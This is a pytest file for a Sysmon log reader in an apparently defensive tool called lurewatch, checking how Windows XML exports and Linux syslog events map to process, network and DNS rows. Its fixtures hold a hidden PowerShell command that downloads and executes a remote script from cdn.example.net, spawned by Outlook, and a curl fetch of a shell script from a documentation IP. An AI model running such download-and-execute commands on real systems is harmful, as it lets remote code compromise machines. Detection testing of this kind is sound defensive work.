"""Sysmon from exported event XML (wevtutil, Event Viewer, PowerShell) and Sysmon for Linux syslog."""

from __future__ import annotations

import datetime as dt
import gzip
from collections import Counter
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape, quoteattr

import pytest

from lurewatch.readers.records import Reject
from lurewatch.readers.sysmon import read_sysmon_xml, xml_split
from lurewatch.schema import column_names

NS = "http://schemas.microsoft.com/win/2004/08/events/event"
SHA256 = "1D5491E3C468EE4B4EF6EDFF4BBC7D06EE83180F6F0B1576763EA2EFE049493A"
GUID = "{365ABB72-CF01-5CE6-0000-00105DA50C00}"
PARENT = "{365ABB72-CE84-5CE6-0000-001094130600}"

PROC = {
    "RuleName": "-",
    "UtcTime": "2024-03-18 21:18:27.123",
    "ProcessGuid": GUID,
    "ProcessId": "3872",
    "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe",
    "OriginalFileName": "PowerShell.EXE",
    "CommandLine": 'powershell -nop -w hidden -c "iwr https://cdn.example.net/a.ps1 | iex"',
    "CurrentDirectory": "C:\\Users\\alice\\Downloads\\",
    "User": "CORP\\alice",
    "LogonGuid": "{365ABB72-CE6C-5CE6-0000-002047F30000}",
    "LogonId": "0xf347",
    "TerminalSessionId": "1",
    "IntegrityLevel": "Medium",
    "Hashes": f"SHA1=47D7864D26FC67E0D60391CBF170D33DA518C322,MD5=43C2D32,SHA256={SHA256}",
    "ParentProcessGuid": PARENT,
    "ParentProcessId": "2940",
    "ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
    "ParentCommandLine": '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"',
}
NET = {
    "RuleName": "-",
    "UtcTime": "2024-03-18 21:18:29.456",
    "ProcessGuid": GUID,
    "ProcessId": "3872",
    "Image": PROC["Image"],
    "User": "CORP\\alice",
    "Protocol": "tcp",
    "Initiated": "true",
    "SourceIsIpv6": "false",
    "SourceIp": "10.20.1.15",
    "SourceHostname": "-",
    "SourcePort": "49812",
    "SourcePortName": "-",
    "DestinationIsIpv6": "false",
    "DestinationIp": "203.0.113.80",
    "DestinationHostname": "cdn.example.net",
    "DestinationPort": "443",
    "DestinationPortName": "https",
}
DNS = {
    "RuleName": "-",
    "UtcTime": "2024-03-18 21:18:28.001",
    "ProcessGuid": GUID,
    "ProcessId": "3872",
    "QueryName": "CDN.Example.NET",
    "QueryStatus": "0",
    "QueryResults": "type: 5 edge.example.org;::ffff:203.0.113.80;",
    "Image": PROC["Image"],
    "User": "CORP\\alice",
}
TERMINATE = {k: PROC[k] for k in ("RuleName", "UtcTime", "ProcessGuid", "ProcessId", "Image")}
SECURITY_4688 = {"SubjectUserSid": "S-1-5-18", "NewProcessName": "C:\\Windows\\cmd.exe"}


def event_xml(
    eid: int,
    data: dict[str, str] | None,
    *,
    record: int = 1,
    computer: str = "WS01.corp.example",
    provider: str = "Microsoft-Windows-Sysmon",
    channel: str = "Microsoft-Windows-Sysmon/Operational",
    created: str = "2024-03-18T21:18:30.5000000Z",
    namespace: bool = True,
) -> str:
    """One event as Windows renders it (wevtutil qe /f:xml, Get-WinEvent ToXml)."""
    ns = f" xmlns='{NS}'" if namespace else ""
    body = "".join(f"<Data Name={quoteattr(k)}>{escape(v)}</Data>" for k, v in (data or {}).items())
    event_data = f"<EventData>{body}</EventData>" if data is not None else ""
    return (
        f"<Event{ns}><System><Provider Name='{provider}' "
        "Guid='{5770385F-C22A-43E0-BF4C-06F5698FFBD9}'/>"
        f"<EventID>{eid}</EventID><Version>5</Version><Level>4</Level><Task>{eid}</Task>"
        "<Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>"
        f"<TimeCreated SystemTime='{created}'/><EventRecordID>{record}</EventRecordID>"
        "<Correlation/><Execution ProcessID='2032' ThreadID='2092'/>"
        f"<Channel>{channel}</Channel><Computer>{computer}</Computer>"
        f"<Security UserID='S-1-5-18'/></System>{event_data}</Event>"
    )


def sample_events() -> list[str]:
    return [
        event_xml(1, PROC, record=101),
        event_xml(3, NET, record=102),
        event_xml(22, DNS, record=103),
        event_xml(5, TERMINATE, record=104),
        event_xml(
            4688,
            SECURITY_4688,
            record=9001,
            provider="Microsoft-Windows-Security-Auditing",
            channel="Security",
        ),
    ]


def read(path: Path) -> tuple[dict[str, list[dict[str, Any]]], list[Reject], Counter[str]]:
    rows: dict[str, list[dict[str, Any]]] = {}
    rejects: list[Reject] = []
    unused: Counter[str] = Counter()
    for item in read_sysmon_xml(path, unused):
        if isinstance(item, Reject):
            rejects.append(item)
        else:
            rows.setdefault(item[0], []).append(item[1])
    return rows, rejects, unused


def without_location(rows: dict[str, list[dict[str, Any]]]) -> dict[str, list[dict[str, Any]]]:
    drop = {"log.offset", "log.file.path"}
    return {
        t: [{k: v for k, v in r.items() if k not in drop} for r in rs] for t, rs in rows.items()
    }


def test_event_viewer_export_maps_process_network_and_dns(tmp_path: Path) -> None:
    path = tmp_path / "sysmon.xml"
    path.write_text(
        "<?xml version='1.0' encoding='utf-8'?>\n<Events>\n"
        + "\n".join(sample_events())
        + "\n</Events>\n"
    )
    rows, rejects, unused = read(path)
    assert rejects == []
    assert unused == {"sysmon:5": 1, "security:4688": 1}  # counted, not rejected
    assert {t: len(r) for t, r in rows.items()} == {"process": 1, "proc_net": 1, "proc_dns": 1}
    for table, table_rows in rows.items():
        assert set(table_rows[0]) == set(column_names(table))

    proc = rows["process"][0]
    assert proc["event.id"] and proc["log.offset"] == 3 and proc["log.file.path"] == str(path)
    assert proc["@timestamp"] == dt.datetime(2024, 3, 18, 21, 18, 27, 123000)
    assert proc["host.name"] == "ws01.corp.example"
    assert proc["observer.product"] == "sysmon"
    assert proc["process.entity_id"] == "365abb72-cf01-5ce6-0000-00105da50c00"
    assert proc["process.parent.entity_id"] == "365abb72-ce84-5ce6-0000-001094130600"
    assert proc["process.name"] == "powershell.exe"
    assert proc["process.pid"] == 3872 and proc["process.parent.pid"] == 2940
    assert proc["process.pe.original_file_name"] == "PowerShell.EXE"
    assert proc["process.command_line"] == PROC["CommandLine"]
    assert proc["process.working_directory"] == PROC["CurrentDirectory"]
    assert proc["process.parent.executable"].endswith("OUTLOOK.EXE")
    assert proc["user.name"] == "CORP\\alice" and proc["process.integrity_level"] == "Medium"
    assert proc["process.hashes"] == PROC["Hashes"]
    assert proc["process.hash.sha256"] == SHA256.lower()

    net = rows["proc_net"][0]
    assert (net["host.name"], net["process.entity_id"]) == (
        proc["host.name"],
        proc["process.entity_id"],
    )  # EID 3 joins EID 1
    assert net["network.transport"] == "tcp" and net["network.initiated"] is True
    assert (net["source.ip"], net["source.port"], net["source.domain"]) == (
        "10.20.1.15",
        49812,
        None,
    )
    assert (net["destination.ip"], net["destination.port"]) == ("203.0.113.80", 443)
    assert (
        net["destination.domain"] == "cdn.example.net" and net["process.name"] == "powershell.exe"
    )

    dns = rows["proc_dns"][0]
    assert dns["dns.question.name"] == "cdn.example.net" and dns["dns.response_code"] == "0"
    assert dns["dns.answers"] == ["edge.example.org", "203.0.113.80"]
    assert dns["process.entity_id"] == proc["process.entity_id"]
    assert len({r["event.id"] for rs in rows.values() for r in rs}) == 3


def test_layouts_and_encodings_give_the_same_rows(tmp_path: Path) -> None:
    wrapped = tmp_path / "wrapped.xml"
    wrapped.write_text("<Events>\n" + "\n".join(sample_events()) + "\n</Events>\n")
    one_line = tmp_path / "wevtutil.xml"  # wevtutil qe /f:xml writes events back to back
    one_line.write_text("".join(sample_events()))
    utf16 = tmp_path / "powershell.xml"  # Windows PowerShell redirects in UTF-16 with a BOM
    utf16.write_bytes(b"\xff\xfe" + "\r\n".join(sample_events()).encode("utf-16-le"))
    bare = tmp_path / "no-namespace.xml"
    bare.write_text("\n".join(e.replace(f" xmlns='{NS}'", "") for e in sample_events()))
    expected = without_location(read(wrapped)[0])
    for path in (one_line, utf16, bare):
        rows, rejects, unused = read(path)
        assert rejects == [] and unused == {"sysmon:5": 1, "security:4688": 1}
        assert without_location(rows) == expected, path.name
    assert [r["log.offset"] for r in read(one_line)[0]["proc_net"]] == [1]
    assert [r["log.offset"] for r in read(utf16)[0]["proc_net"]] == [2]


@pytest.mark.parametrize("read_size", [1, 7, 64, 1000])
def test_events_cut_across_reads_are_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, read_size: int
) -> None:
    path = tmp_path / "sysmon.xml"
    path.write_text("<Events>\n" + "\n".join(sample_events()) + "\n</Events>\n")
    expected = read(path)
    monkeypatch.setattr(xml_split, "READ_SIZE", read_size)
    assert read(path) == expected


LINUX_PROC = {
    "RuleName": "-",
    "UtcTime": "2021-10-13 21:18:27.125",
    "ProcessGuid": "{6b1a0c3a-4a33-6167-c5a2-3dd7c3550000}",
    "ProcessId": "3164",
    "Image": "/usr/bin/curl",
    "FileVersion": "-",
    "Description": "-",
    "Product": "-",
    "Company": "-",
    "OriginalFileName": "-",
    "CommandLine": "curl -s http://203.0.113.7/x.sh",
    "CurrentDirectory": "/tmp",
    "User": "root",
    "LogonGuid": "{6b1a0c3a-0000-0000-0000-000000000000}",
    "LogonId": "0",
    "TerminalSessionId": "3",
    "IntegrityLevel": "no level",
    "Hashes": "-",
    "ParentProcessGuid": "{6b1a0c3a-4a30-6167-f5c7-0c5d1d560000}",
    "ParentProcessId": "3150",
    "ParentImage": "/usr/bin/bash",
    "ParentCommandLine": "bash",
    "ParentUser": "root",
}
LINUX_NET = {
    "RuleName": "-",
    "UtcTime": "2021-10-13 21:18:27.301",
    "ProcessGuid": "{6b1a0c3a-4a33-6167-c5a2-3dd7c3550000}",
    "ProcessId": "3164",
    "Image": "/usr/bin/curl",
    "User": "root",
    "Protocol": "tcp",
    "Initiated": "true",
    "SourceIsIpv6": "false",
    "SourceIp": "10.0.3.4",
    "SourceHostname": "-",
    "SourcePort": "51234",
    "SourcePortName": "-",
    "DestinationIsIpv6": "false",
    "DestinationIp": "203.0.113.7",
    "DestinationHostname": "-",
    "DestinationPort": "80",
    "DestinationPortName": "-",
}


def test_sysmon_for_linux_syslog_lines(tmp_path: Path) -> None:
    def line(eid: int, data: dict[str, str], record: int) -> str:
        event = event_xml(
            eid,
            data,
            record=record,
            computer="ubuntu-web01",
            provider="Linux-Sysmon",
            channel="Linux-Sysmon/Operational",
            created="2021-10-13T21:18:27.125862000Z",
            namespace=False,
        )
        return f"Oct 13 21:18:27 ubuntu-web01 sysmon: {event}"

    path = tmp_path / "syslog"
    path.write_text(
        "Oct 13 21:18:26 ubuntu-web01 CRON[1203]: (root) CMD (run-parts /etc/cron.hourly)\n"
        + line(1, LINUX_PROC, 67)
        + "\n"
        + line(3, LINUX_NET, 68)
        + "\n"
        + line(4, {"UtcTime": "2021-10-13 21:18:28.000", "State": "Started"}, 69)
        + "\n"
    )
    rows, rejects, unused = read(path)
    assert rejects == [] and unused == {"sysmon:4": 1}
    proc, net = rows["process"][0], rows["proc_net"][0]
    assert proc["observer.product"] == net["observer.product"] == "sysmon-linux"
    assert proc["log.offset"] == 2 and net["log.offset"] == 3
    assert proc["host.name"] == "ubuntu-web01" and proc["user.name"] == "root"
    assert proc["process.name"] == "curl" and proc["process.parent.executable"] == "/usr/bin/bash"
    assert proc["process.entity_id"] == "6b1a0c3a-4a33-6167-c5a2-3dd7c3550000"
    assert proc["process.hashes"] is None and proc["process.hash.sha256"] is None  # "-"
    assert proc["process.pe.original_file_name"] is None
    assert net["process.entity_id"] == proc["process.entity_id"]
    assert net["destination.domain"] is None and net["destination.port"] == 80


def test_one_bad_event_does_not_lose_the_others(tmp_path: Path) -> None:
    good = sample_events()
    broken = event_xml(1, PROC, record=201).replace("</Computer>", "</Computr>")
    unterminated = event_xml(3, NET, record=202).removesuffix("</Event>")
    truncated = event_xml(1, PROC, record=203)[:300]
    path = tmp_path / "damaged.xml"
    path.write_text("\n".join([good[0], broken, good[1], unterminated, good[2], truncated]))
    rows, rejects, _ = read(path)
    assert {t: len(r) for t, r in rows.items()} == {"process": 1, "proc_net": 1, "proc_dns": 1}
    assert [(r.offset, r.kind) for r in rejects] == [(2, "sysmon"), (4, "sysmon"), (6, "sysmon")]
    assert "event #2: malformed XML" in rejects[0].reason
    assert "event #4: unterminated" in rejects[1].reason
    assert "end of input" in rejects[2].reason
    assert all("\n" not in r.reason for r in rejects)


def test_missing_time_and_fields(tmp_path: Path) -> None:
    no_utc = {k: v for k, v in PROC.items() if k != "UtcTime"}
    no_dest = {k: v for k, v in NET.items() if not k.startswith("Destination")}
    path = tmp_path / "gaps.xml"
    path.write_text(
        "\n".join(
            [
                event_xml(1, no_utc, record=1),  # falls back to TimeCreated
                event_xml(3, {**NET, "UtcTime": "-"}, record=2, created="garbage"),
                event_xml(3, no_dest, record=3),
                event_xml(1, {"RuleName": "-", "UtcTime": PROC["UtcTime"]}, record=4),
                event_xml(22, None, record=5),
                event_xml("x", PROC, record=6),  # type: ignore[arg-type]
            ]
        )
    )
    rows, rejects, _ = read(path)
    assert rows["process"][0]["@timestamp"] == dt.datetime(2024, 3, 18, 21, 18, 30, 500000)
    reasons = {r.offset: (r.kind, r.reason) for r in rejects}
    assert reasons[2][0] == "proc_net" and "without a usable time" in reasons[2][1]
    assert reasons[3][0] == "proc_net" and "no destination" in reasons[3][1]
    assert reasons[4][0] == "process" and "no process" in reasons[4][1]
    assert reasons[5][0] == "proc_dns" and "without EventData" in reasons[5][1]
    assert "without an EventID" in reasons[6][1]
    assert len(rejects) == 5


def test_the_same_file_twice_gives_the_same_ids(tmp_path: Path) -> None:
    path = tmp_path / "sysmon.xml"
    path.write_text("\n".join(sample_events()))
    first = [r["event.id"] for rs in read(path)[0].values() for r in rs]
    copy = tmp_path / "elsewhere.xml"
    copy.write_text("\n".join(sample_events()))
    assert first == [r["event.id"] for rs in read(copy)[0].values() for r in rs]
    # A different record (another record number) is another event.
    other = tmp_path / "other.xml"
    other.write_text(event_xml(1, PROC, record=999))
    assert read(other)[0]["process"][0]["event.id"] not in first


def test_a_file_without_events_is_one_reject(tmp_path: Path) -> None:
    path = tmp_path / "empty.xml"
    path.write_text("<?xml version='1.0'?><Events></Events>")
    rows, rejects, _ = read(path)
    assert rows == {} and [(r.kind, r.offset) for r in rejects] == [("file", None)]
    assert [r.kind for r in read(tmp_path / "missing.xml")[1]] == ["file"]


def test_an_endless_event_is_cut_off_and_reading_goes_on(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(xml_split, "READ_SIZE", 512)
    monkeypatch.setattr(xml_split, "MAX_EVENT", 4096)
    endless = "<Event xmlns='x'><System>" + "<Data>x</Data>" * 2000  # never closed
    path = tmp_path / "endless.xml"
    path.write_text(endless + "\n" + event_xml(3, NET, record=7) + "\n")
    rows, rejects, _ = read(path)
    assert [r["log.offset"] for r in rows["proc_net"]] == [2]
    assert [(r.offset, r.kind) for r in rejects] == [(1, "sysmon")]
    assert "without </Event> in its first 4 KiB" in rejects[0].reason


def test_gzip_export(tmp_path: Path) -> None:
    plain = tmp_path / "sysmon.xml"
    plain.write_text("\n".join(sample_events()))
    packed = tmp_path / "sysmon.xml.gz"
    packed.write_bytes(gzip.compress(plain.read_bytes()))
    assert without_location(read(packed)[0]) == without_location(read(plain)[0])
